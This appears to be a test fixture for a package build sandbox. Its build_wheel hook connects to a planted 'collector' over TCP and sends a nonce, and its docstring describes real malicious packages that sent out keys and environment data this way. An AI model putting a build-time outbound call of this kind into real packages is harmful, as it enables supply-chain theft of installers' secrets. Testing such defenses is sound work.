"""Connects to a collector over TCP and sends what it has to send.

The loot of real packages (variables, keys, whole homes) left this way. A build that can
open a connection can also fetch its second stage through it. ctx posted the whole
environment in this way.
"""

import socket

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with kit.attempt("connect"):
        collector = kit.plant("collector")
        address = (collector.address, collector.port)
        with socket.create_connection(address, timeout=kit.seconds(3)) as out:
            out.sendall(f"{kit.nonce}\n".encode())
    return kit.wheel(wheel_directory)
